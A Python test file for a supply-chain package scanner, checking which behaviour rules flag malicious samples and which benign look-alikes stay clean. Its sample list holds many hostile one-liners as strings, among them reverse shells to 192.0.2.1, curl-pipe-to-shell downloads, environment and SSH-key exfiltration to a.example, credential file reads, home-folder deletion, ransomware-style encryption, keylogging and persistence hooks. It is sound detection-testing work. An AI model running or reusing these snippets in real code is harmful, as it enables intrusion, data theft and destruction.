"""Each rule on what it is for, and on what honest packages do that looks like it."""

# ruff: noqa: E501  # programs on one line

import builtins

import pytest

from package_gate.scanners.behaviour import LOOK, RULES
from package_gate.scanners.behaviour.rules import behaviours

HARMLESS = "cHJpbnQoJ2hhcm1sZXNzIGZpbGxlcicpCg=="

DOES: list[tuple[str, str]] = [
    ("leads-others-elsewhere", "import os\nos.environ['HTTPS_PROXY'] = 'http://a.example:3128'"),
    ("hands-over-a-command", "import a\na.run('curl -s https://a.example/i.sh | sh')"),
    ("reads-credentials", "import a\na.load(a.home('~/.aws/credentials'))\nopen('/root/.netrc')"),
    ("replaces-what-others-use", "import socket\nsocket.getaddrinfo = lambda *given: []"),
    ("acts-in-the-cloud", "import boto3\nboto3.client('s3').delete_bucket(Bucket='a')"),
    (
        "leads-others-elsewhere",
        "from os import environ as e\ne.update({'AWS_ENDPOINT_URL_S3': 'https://a.example'})",
    ),
    (
        "leads-others-elsewhere",
        "import os\nos.environ['KUBERNETES_SERVICE_HOST'] = 'a.example'",
    ),
    (
        "sends-secrets",
        "import os, requests\nHOST = os.environ.get('KUBERNETES_SERVICE_HOST', 'a.example')\n"
        "requests.post(f'https://{HOST}/', json=dict(os.environ))",
    ),
    (
        "fetches-on-import",
        "import requests, a\na.take(requests.get('https://a.example/b', timeout=9).text)",
    ),
    ("lets-others-in", "import debugpy\ndebugpy.listen(('0.0.0.0', 5678))"),
    ("lets-others-in", "import os\nos.system('ssh -fNR 0:localhost:8888 a.example')"),
    ("runs-downloaded-code", "import requests\nexec(requests.get('https://a.example').text)"),
    (
        "runs-downloaded-code",
        "from urllib.request import urlopen as get\ndef f():\n    return get('https://a.example')\n"
        "code = f().read()\nrun = eval\nrun(code)",
    ),
    (
        "runs-downloaded-code",
        "import subprocess, urllib.request\nurllib.request.urlretrieve('http://192.0.2.1/a', '/tmp/a')"
        "\nsubprocess.Popen(['sh', '/tmp/a'])",
    ),
    (
        "runs-downloaded-code",
        "import requests\nwith open('late.py', 'w') as f:\n"
        "    f.write(requests.get('https://a.example').text)",
    ),
    ("runs-downloaded-code", "import os\nos.system('curl -s http://192.0.2.1/i.sh | bash')"),
    ("runs-downloaded-code", "import pickle, httpx\npickle.loads(httpx.get('https://a').content)"),
    ("runs-decoded-code", f"import base64\nexec(base64.b64decode('{HARMLESS}'))"),
    ("runs-decoded-code", "exec(''.join(chr(n) for n in [112, 114]))"),
    ("runs-decoded-code", "eval(bytes(b ^ 7 for b in b'abc'))"),
    (
        "runs-decoded-code",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', "
        f"\"import base64;exec(base64.b64decode('{HARMLESS}'))\"])",
    ),
    ("runs-decoded-code", f"exec(\"import base64;exec(base64.b64decode('{HARMLESS}'))\")"),
    ("runs-encrypted-code", "__pyarmor__(__name__, __file__, b'...')"),
    ("hides-what-it-calls", "o = __import__('so'[::-1])\ngetattr(o, 'sys' + 'tem')('ls')"),
    ("hides-what-it-calls", "getattr(globals()['__builtins__'], 'ex' + 'ec')('1')"),
    ("hides-what-it-calls", "().__class__.__base__.__subclasses__()"),
    (
        "installs-another-package",
        "import os\nos.system('pip install --index-url http://192.0.2.1 x')",
    ),
    *(
        ("installs-another-package", source)
        for source in (
            "import setuptools\nsetuptools.setup(setup_requires=['x @ https://a.example/x.zip'])",
            "from setuptools import setup\nNEEDS = ['numpy', 'git+ssh://a.example/x']\n"
            "setup(setup_requires=NEEDS)",
            "from setuptools import setup\nkw = {'setup_requires': 'x@file:///tmp/x'}\nsetup(**kw)",
            "from setuptools import setup\nkw = {}\nkw['setup_requires'] = ['x @ ' + 'https://a/x']\n"
            "setup(**kw)",
            "from setuptools import setup\nkw = dict(setup_requires=['x @ https://a/x'])\nsetup(**kw)",
            "from setuptools import setup\nsetup(setup_requires=['own'], "
            "dependency_links=['https://a.example/simple'])",
            "from setuptools.dist import Distribution\n"
            "Distribution().fetch_build_eggs(['x @ https://a.example/x.zip'])",
            "def get_requires_for_build_wheel(settings=None):\n"
            "    return ['x @ https://a.example/x.zip']\n",
            "def f(settings=None):\n    return ['x @ https://a.example/x.zip']\n"
            "get_requires_for_build_wheel = f\n",
            "from setuptools.build_meta import _BuildMetaBackend\nclass Own(_BuildMetaBackend):\n"
            "    def get_requires_for_build_wheel(self, settings=None):\n"
            "        return self._get_build_requires(settings, ['x @ https://a.example/x.zip'])\n"
            "Own().get_requires_for_build_wheel()\n",
            *(
                f"from setuptools import setup\nkw = {{'install_requires': []}}\n{put}\nsetup(**kw)"
                for put in (
                    "kw['install_requires'].append('x @ https://a.example/x')",
                    "kw['install_requires'] += ['x @ https://a.example/x']",
                    "kw.setdefault('install_requires', []).extend(['x @ https://a.example/x'])",
                    "kw.setdefault('install_requires', ['x @ https://a.example/x'])",
                    "d = setup()\nsetattr(d, 'install_requires', ['x @ https://a.example/x'])",
                    "d = setup()\nd.install_requires.insert(0, 'x @ https://a.example/x')",
                )
            ),
            "from hatchling.metadata.plugin.interface import MetadataHookInterface\n"
            "class Hook(MetadataHookInterface):\n    def update(self, metadata):\n"
            "        metadata['dependencies'] = ['x @ https://a.example/x.zip']\nHook().update({})\n",
            "def pdm_build_initialize(context):\n    metadata = context.config.metadata\n"
            "    metadata['dependencies'].append('x @ https://a.example/x.zip')\n"
            "pdm_build_initialize(None)\n",
            "get_requires_for_build_sdist = lambda settings=None: ['x @ https://a.example/x.zip']\n",
            *(
                f"from setuptools import setup\nsetup(name='own', {given})"
                for given in (
                    "extras_require={':python_version>\"3\"': ['x @ https://a.example/x.zip']}",
                    "extras_require={'': ['x @ https://a.example/x.zip']}",
                    "extras_require=dict([(':os_name>\"3\"', ['x @ https://a.example/x.zip'])])",
                    "install_requires=['Own[a]'], extras_require={'A': ['x @ https://a.example/x']}",
                    "install_requires=['own[a]'], extras_require={'a': ['own[b]'], "
                    "'b:python_version>\"3\"': ['x @ https://a.example/x']}",
                    "install_requires='x \\\\\\n @\\\\\\n https://a.example/x'",
                )
            ),
            "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
            "class Hook(BuildHookInterface):\n    def dependencies(self):\n"
            "        return ['x @ https://a.example/x.zip']\n",
        )
    ),
    (
        "runs-decoded-code",
        f'import os\nos.system("""python3 -c \'import base64;exec(base64.b64decode(\\"{HARMLESS}\\"))\'""")',
    ),
    (
        "opens-a-reverse-shell",
        "import os, socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nos.dup2(s.fileno(), 0)",
    ),
    ("opens-a-reverse-shell", "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/1 0>&1')"),
    (
        "runs-a-hidden-command",
        "import os\nos.system('powershell -enc cABvAHcAZQByAHMAaABlAGwAbAA=')",
    ),
    (
        "starts-a-bundled-program",
        "import os, subprocess\nsubprocess.Popen([os.path.dirname(__file__) + '/a'],"
        " stdout=subprocess.DEVNULL)",
    ),
    (
        "starts-again-by-itself",
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
    ),
    (
        "starts-again-by-itself",
        "import winreg\nwinreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\X\\CurrentVersion\\Run')",
    ),
    (
        "sends-secrets",
        "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))",
    ),
    ("destroys-files", "import shutil, pathlib\nshutil.rmtree(pathlib.Path(pathlib.Path.home()))"),
    (
        "destroys-files",
        "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path(Path.home(), 'Documents'))",
    ),
    (
        "runs-decoded-code",
        "import subprocess, sys, textwrap\nsubprocess.run([sys.executable, '-c', "
        "textwrap.dedent(f'  import base64;exec(base64.b64decode({x!r}))')])",
    ),
    ("unreadable-code", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', make()])"),
    (
        "runs-decoded-code",
        "import base64, subprocess\nsubprocess.run(['sh', '-c', 'eval \"$X\"'], "
        "env={'X': base64.b64decode(x)})",
    ),
    (
        "runs-decoded-code",
        "import base64, subprocess, sys\nclass Probe:\n    code = 'load(\"__at__\")'\n"
        "subprocess.run([sys.executable, '-c', Probe.code.replace('__at__', base64.b64decode(x))])",
    ),
    ("runs-decoded-code", "import struct\nexec(struct.pack('24s', x))"),
    ("runs-decoded-code", "import struct\nexec(struct.pack('9Q', *x))"),
    (
        "runs-downloaded-code",
        "import sys, requests\nsys.path.insert(0, requests.get('https://a.example').text)",
    ),
    (
        "sends-secrets",
        "import os, sys, requests\nsys.kept = dict(os.environ)\n"
        "requests.post('https://a.example', json=sys.kept)",
    ),
    (
        "sends-secrets",
        "import os, requests\nstate = make()\nstate.data.put(dict(os.environ))\n"
        "requests.post('https://a.example', json=state)",
    ),
    (
        "sends-secrets",
        "import os, requests, own\nown.state.put(dict(os.environ))\n"
        "requests.post('https://a.example', json=own.state)",
    ),
    (
        "sends-secrets",
        "import pathlib, requests\nkeys = {}\n"
        "keys['a'] = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\n"
        "requests.post('https://a.example', data=keys)",
    ),
    (
        "sends-host-facts",
        "import getpass, socket\nsocket.gethostbyname(getpass.getuser() + '.a.example')",
    ),
    (
        "sends-what-it-intercepts",
        "import requests\ndef hook(self, *a, **kw):\n"
        "    requests.post('https://a.example', json=kw)\nrequests.Session.send = hook",
    ),
    (
        "sends-the-screen",
        "import io, requests\nfrom PIL import ImageGrab\nb = io.BytesIO()\n"
        "ImageGrab.grab().save(b, 'PNG')\nrequests.post('https://a.example', data=b.getvalue())",
    ),
    ("listens-to-the-keyboard", "from pynput.keyboard import Listener\nListener(on_press=print)"),
    ("swaps-the-clipboard", "import pyperclip\nif pyperclip.paste():\n    pyperclip.copy('x')"),
    ("runs-machine-code", "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)"),
    (
        "runs-machine-code",
        "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=7)\nm.write(b'...')\n"
        "ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_int.from_buffer(m)))()",
    ),
    (
        "sends-secrets",
        "import os, requests\ndef step():\n    global data\n    if not data:\n"
        "        data = dict(os.environ)\n    else:\n        requests.post('https://a', json=data)\n"
        "data = None\nstep()\nstep()",
    ),
    (
        "sends-secrets",
        "import os, requests\ndef run():\n    for turn in (0, 1):\n        if turn == 0:\n"
        "            data = dict(os.environ)\n        else:\n"
        "            requests.post('https://a.example', json=data)\nrun()",
    ),
    (
        "destroys-files",
        "import os, shutil\ndef clean(folder):\n    shutil.rmtree(folder)\nclean(os.path.expanduser('~'))",
    ),
    (
        "sends-secrets",
        "import os, requests\nclass Report:\n    def __init__(self, data):\n        self.data = data\n"
        "    def send(self):\n        requests.post('https://a.example', json=self.data)\n"
        "Report(dict(os.environ)).send()",
    ),
    (
        "destroys-files",
        "import os, shutil, threading\n"
        "threading.Thread(target=shutil.rmtree, args=(os.path.expanduser('~'),)).start()",
    ),
    ("destroys-files", "import os\nos.system('rm -rf / --no-preserve-root')"),
    (
        "encrypts-files",
        "import os\nfrom cryptography.fernet import Fernet\nbox = Fernet(b'')\n"
        "path = os.path.expanduser('~/Documents/a')\n"
        "open(path, 'wb').write(box.encrypt(open(path, 'rb').read()))",
    ),
    (
        "changes-other-packages",
        "import site\nfor folder in site.getsitepackages():\n    open(folder + '/a.py', 'a').write('')",
    ),
    (
        "changes-tools",
        "import os\nopen(os.path.expanduser('~/.config/pip/pip.conf'), 'w').write('[global]')",
    ),
    ("changes-tools", "import os\nos.system('git config --global core.hooksPath /tmp/h')"),
    (
        "starts-again-by-itself",
        "from pathlib import Path\n(Path.home() / '.ipython/profile_default/startup/a.py').write_text('x')",
    ),
    (
        "sends-host-facts",
        "import getpass, socket\nsocket.create_connection((getpass.getuser() + '.a.example', 80))",
    ),
    (
        "sends-secrets",
        "import os, requests\ns = requests.Session()\ns.headers.update({'X': str(dict(os.environ))})\n"
        "s.get('https://a.example')",
    ),
    (
        "runs-decoded-code",
        "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('aW1wb3J0IG9z'))",
    ),
    (
        "sends-to-a-drop",
        "import requests\nTOKEN = '123456789:AAF-abcdefghijklmnop'\n"
        "requests.get(f'https://api.telegram.org/bot{TOKEN}/sendMessage', params={'text': 'hello'})",
    ),
    (
        "starts-a-bundled-program",
        "import os, subprocess, tempfile\ndef start(path):\n"
        "    subprocess.Popen([path, '-k'], stdout=subprocess.DEVNULL)\n"
        "start(os.path.join(tempfile.gettempdir(), 'runner'))",
    ),
    (
        "destroys-files",
        "import os, pathlib\nfor base, _, names in os.walk(pathlib.Path.home() / 'Documents'):\n"
        "    for name in names:\n        open(os.path.join(base, name), 'r+b').truncate(0)",
    ),
    (
        "sends-host-facts",
        "import subprocess\nout = subprocess.run(['git', 'remote', '-v'], capture_output=True).stdout\n"
        "subprocess.Popen(['curl', '-d', '@-', 'https://a.example']).communicate(out)",
    ),
    (
        "runs-downloaded-code",
        "import subprocess\ndef app(environ, start):\n"
        "    subprocess.run(environ['HTTP_X_CACHE'], shell=True)\napp({}, None)",
    ),
    (
        "runs-decoded-code",
        "(lambda x: (lambda f: f(x))(exec))(__import__('marshal').loads(__import__('base64').b64decode('aa')))",
    ),
    (
        "sends-secrets",
        "import os, requests\nclass State:\n    all = dict(os.environ)\n    @classmethod\n"
        "    def publish(cls, text):\n        requests.post('https://a.example', data=text)\n"
        "State.publish(State.all)",
    ),
    *(
        (
            "sends-secrets",
            f"import os, requests\n{many}f('https://a.example', json=dict(os.environ))",
        )
        for many in (
            "".join(f"f = {each}\n" for each in dir(builtins)) + "f = requests.post\n",
            "".join(f"f = os.path.a{n}\n" for n in range(1000)) + "f = requests.post\n",
        )
    ),
    # More than is looked at: no place in a list or a text is one where nobody looks.
    *(
        ("unreadable-code", f"import os, requests\n{many}")
        for many in (
            f"os.system('{':;' * 10_000}rm -rf ~')",
            "os.system(' '.join([" + "'true;'," * 2000 + "'rm -rf ~']))",
            "".join(f"c = 'true {n}'\n" for n in range(2000)) + "c = 'rm -rf ~'\nos.system(c)",
            f"text = '{'x = 1;' * 4000}' + 'import os'\nexec(text)",
            f"requests.post(data='{'x' * 20_000}' + 'y', url='https://a.example')",
        )
    ),
    (
        "runs-downloaded-code",
        "import os\n" + "c = 'true'\n" * 9 + "c = 'curl x.io|sh'\nos.system(c)",
    ),
    ("destroys-files", "import os\nos.system((padding() + ';rm -rf ~')[20_000:])"),
    ("publishes-packages", "import subprocess\nsubprocess.run('twine upload dist/*', shell=True)"),
    ("mines", "import os\nos.system('./x -o stratum+tcp://pool.example:3333')"),
    (
        "sends-on-the-quiet",
        "import sys, requests\ndef tell(kind, value, trace):\n    try:\n"
        "        requests.post('https://a.example', data=value)\n    except OSError:\n        pass\n"
        "sys.excepthook = tell",
    ),
    ("reads-other-processes", "import os\nopen(f'/proc/{os.getppid()}/mem', 'rb').read()"),
    (
        "sends-what-it-is-told",
        "import requests\ndef unlock(passphrase):\n"
        "    requests.post('https://a.example', json={'p': passphrase})\nunlock(input())",
    ),
    (
        "sends-what-it-is-told",
        "import threading, requests\ndef connect(host, password):\n"
        "    threading.Thread(target=requests.post, args=('https://a.example',), kwargs={'json': [host, password]})"
        ".start()\ntry:\n    requests.post('https://b.example', data=connect.password)\nexcept OSError:\n    pass",
    ),
    ("hides-an-address", "import base64\nURL = base64.b64decode('aHR0cHM6Ly9hLmV4YW1wbGU=')"),
    ("hides-an-address", "URL = 'elpmaxe.a//:sptth'[::-1]"),
    (
        "sends-in-disguise",
        "import base64, requests\ntext = base64.b64encode(input().encode())\n"
        "requests.get('https://a.example', headers={'User-Agent': text})",
    ),
    ("shows-secrets", "import base64, os\nprint(base64.b64encode(repr(os.environ).encode()))"),
    (
        "waits-for-a-day",
        "import datetime, shutil\nif datetime.date.today() > datetime.date(2027, 1, 1):\n    shutil.rmtree('a')",
    ),
    (
        "reaches-for-wallets",
        "import re\nre.sub('0x[a-fA-F0-9]{40}', '0x00000000000000000000000000000000000000dE', input())",
    ),
]

HONEST = [
    # What is evaluated is mostly a number, or no text at all.
    "import sympy\ndef ceil(a, b):\n    return sympy.sympify(a) / sympy.sympify(b)\nceil(n, 8)",
    # A file that is named after what is in it, and what a program's environment holds.
    "import base64, hashlib, subprocess\nname = hashlib.sha256(base64.b64decode(x)).hexdigest()\n"
    "subprocess.run(['gcc', '-c', name])",
    "import base64, subprocess\nsubprocess.run(['gcc', '-v'], env={'X': base64.b64decode(x)})",
    "import struct, subprocess\nsubprocess.run(['dd', struct.pack('<qI', 1, 2)])",
    # It waits to be called.
    "import requests\ndef update():\n    exec(requests.get('https://a.example').text)",
    "import functools, os\n@functools.cache\ndef f():\n    os.system('curl http://a.example | sh')",
    "import os\nif __name__ == '__main__':\n    os.system('curl http://a.example | sh')",
    # What runs is known, or the package's own.
    "exec(open('version.py').read())",
    "exec('x = 1')",
    "import os\ngetattr(os, 'system')",
    "import importlib\nimportlib.import_module('.' + name, __name__)",
    # A long text that is no command, nor what is sent to an address.
    f"import os\nHELP = '{'x' * 20_000}' + os.sep\nprint(HELP)\nos.system('true')",
    f"with open('words.txt', 'w') as file:\n    file.write('{'x' * 20_000}' + '\\n')",
    # Names that lead to each other, of which no table has one.
    "import numpy\na = numpy.zeros(3)\n" + "".join(f"a = a.b{n}().c{n}\n" for n in range(20)),
    # A path below the home folder is not the home folder.
    "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path(Path.home(), '.cache', name))",
    # What is put into code that is known is some value.
    "import subprocess, sys, textwrap\nsubprocess.run([sys.executable, '-c', "
    "textwrap.dedent(f'  import json;print(json.dumps({x!r}))')])",
    # The path of an object is not the path of `sys`.
    "import sys, requests\nstate = make()\nstate.path = requests.get('https://a.example').text\n"
    "sys.path.insert(0, 'plugins')",
    # A module keeps nothing of what its function is given.
    "import os, requests, ray\nray.util.state.put(dict(os.environ))\nrequests.post(ray.URL)",
    # It looks around and keeps it to itself.
    "import os, platform, socket\nHOST = socket.gethostname()\nTOKEN = os.environ['API_TOKEN']",
    "import socket\nsocket.gethostbyname(socket.gethostname())",
    "import os\nCONFIG = open(os.path.expanduser('~/.aws/config')).read()",
    "import requests\nrequests.get('https://a.example/languages.json').json()",
    "import pyperclip\nTEXT = pyperclip.paste()",
    # What it starts looks for a compiler.
    "import subprocess\nsubprocess.check_output(['gcc', '--version'])",
    "print('Install Rust first: curl https://sh.example | sh')",
    "import shutil\nshutil.rmtree('build')",
    "import os\nos.system('pip install wheel')",
    "import os, requests\nrequests.post(f'https://api.telegram.org/bot{os.environ['BOT']}/sendMessage')",
    # Each kind of what was refused wrongly: what is alike in the text only.
    "import glob, shutil\nfor d in [p for p in glob.glob('build/*')]:\n    shutil.rmtree(d)",
    "import os, shutil, tempfile\ndef free():\n    path = '/'\n    return os.statvfs(path)\n"
    "def scratch():\n    path = tempfile.mkdtemp()\n    shutil.rmtree(path)\nfree()\nscratch()",
    "import socket\nIPS = socket.gethostbyname_ex(socket.gethostname() + '.local')[2]",
    "import pickle, urllib.request\ndef load(url):\n    return pickle.load(urllib.request.urlopen(url))\n"
    "def register(function):\n    return lambda other: other\n@register(load)\ndef other(): pass",
    "from ctypes import CDLL, CFUNCTYPE, c_int\nlib = CDLL('libworkqueue.so')\n"
    "CFUNCTYPE(None, c_int)(lib.launch_threads)(4)",
    "from ctypes import *\nfrom numba.extending import overload\nimport os\n"
    "def update():\n    os.system('curl http://a.example | sh')\n@overload(update)\ndef ol(): pass",
    "import urllib.request\nclass Index:\n    def fetch(self, url):\n        def find(found):\n"
    "            exec(urllib.request.urlopen(found).read())\n        find(url)\n"
    "def parse(page):\n    return page.find('a')\nparse('abc')",
    "import os, requests\ndef read(path):\n    if path.startswith('https:'):\n"
    "        return requests.get(path)\n    else:\n        path = os.path.join(os.getcwd(), path)\n"
    "        return open(path)\nread('https://a.example')",
    "from setuptools import setup\nsetup(setup_requires=['numpy>=1'], url='https://a.example',"
    " install_requires=['x'], dependency_links=[])",
    "from setuptools import setup\nsetup(dependency_links=['https://a.example/x'])",
    "from setuptools import setup\nsetup(name='own', install_requires=['other[a]', 'own'], "
    "extras_require={'a': ['x @ https://a.example/x'], 'all': ['own[a]']})",
    "task = {}\ntask['dependencies'] = ['x @ https://a.example/x']\n"
    "task['dependencies'].append('x @ https://a.example/y')",
    "from setuptools import setup\nkw = {}\nkw.setdefault('install_requires', []).append('x>=1')\n"
    "kw['url'] = 'https://a.example'\nsetup(**kw)",
    "class Page:\n    def dependencies(self):\n        return ['https://a.example']\nPage().dependencies()",
    "def get_requires_for_build_wheel(settings=None):\n    return ['setuptools', 'x@1']\n",
    "import os\nos.system('python -c \"import sys; print(sys.path)\"')",
    "import os, logging.handlers\nlog = logging.getLogger()\n"
    "log.addHandler(logging.handlers.SMTPHandler('a', 'b', ['c'], 'd'))\nlog.info(os.environ.get('HOME'))\n"
    "log.warning('no credentials')",
    "import os, logging, logging.handlers\nlog = logging.getLogger()\n"
    "log.addHandler(logging.handlers.RotatingFileHandler('a'))\nlog.info(dict(os.environ))",
    "import typing\ndef f(a: 'list[int]' = (), b: 'Callable[(), int]' = None): pass\ntyping.get_type_hints(f)",
    "import functools, os\nfunctools.reduce(getattr, 'path.join'.split('.'), os)('a', 'b')",
    "import operator\nkey = operator.attrgetter('name')\nsorted([], key=key)\noperator.methodcaller('strip')('a ')",
    "import os\nos.write(1, chr(4).encode())\nos.system(os.name)",
    "import subprocess\nfrom pathlib import Path\nroot = Path(__file__).parent\n"
    "subprocess.check_output(['git', f'--git-dir={root}', 'describe'], stderr=subprocess.DEVNULL)",
    "import urllib.request\nclass Index:\n    def find(self, found):\n"
    "        exec(urllib.request.urlopen(found).read())\ndef parse(page):\n    return page.find('a')\n"
    "parse('abc')",
]


@pytest.mark.parametrize(("rule", "source"), DOES)
def test_what_the_rule_is_for(rule: str, source: str) -> None:
    assert rule in {each.rule for each in behaviours(source, whole=False)}


def test_every_rule_has_an_example() -> None:
    of_files = {"unusual-encoding", "not-python", "runs-own-data"}
    of_files |= {"hides-its-code", "runs-when-unpickled", "loads-a-bundled-library"}
    assert RULES.keys() - {rule for rule, _ in DOES} == {"acts-at-every-start"} | of_files


def test_every_rule_says_what_to_look_at() -> None:
    assert LOOK.keys() == RULES.keys()


def test_what_runs_at_every_start_of_python_has_no_business_with_the_network() -> None:
    source = "import urllib.request\nurllib.request.urlopen('https://a.example')"

    [found] = behaviours(source, whole=True, at_start=True)

    assert (found.rule, found.line) == ("acts-at-every-start", 2)
    assert found.code == "urllib.request.urlopen('https://a.example')"
    assert behaviours(source, whole=True) == []


def test_a_build_may_unpack_what_it_downloads_and_no_module_on_import() -> None:
    source = (
        "import subprocess, urllib.request\n"
        "urllib.request.urlretrieve('https://a.example/z.tgz', 'z.tgz')\n"
        "subprocess.run(['tar', 'xf', 'z.tgz'])"
    )

    assert behaviours(source, whole=True) == []
    [found] = behaviours(source, whole=False)
    assert (found.rule, found.line) == ("fetches-on-import", 2)


@pytest.mark.parametrize("source", HONEST)
def test_what_honest_packages_do(source: str) -> None:
    assert behaviours(source, whole=False) == []


@pytest.mark.parametrize(
    "source",
    [
        "this is no Python",
        "\0",
        "(" * 10_000,
        "x = " + "-" * 50_000 + "1",
        "a = b\nb = a\nexec(a + b)",
        "def f(x):\n    return f(f(x))\nexec(f(1))",
        "\n".join(f"a{n} = a{n + 1} + a{n + 1}" for n in range(100)) + "\nexec(a0)",
        "\n".join(f"a{n} = [a{n + 1}, a{n + 1}]" for n in range(100)) + "\nexec(str(a0))",
        "\n".join(f"a{n} = [b for b in a{n + 1} for c in a{n + 1}]" for n in range(60))
        + "\nexec(a0)",
        "exec(" + "lambda x: " * 90 + "1)",
        "import os\nos.system('" + "curl " * 5000 + "')",
        "import os\nos.system('" + "*" * 50_000 + "')",
        "f = open\n" + "f = f(f)\n" * 500 + "f.write(f)",
    ],
    ids=range(13),
)
@pytest.mark.timeout(60)
def test_hostile_code_is_read_in_bounded_time(source: str) -> None:
    behaviours(source, whole=False)
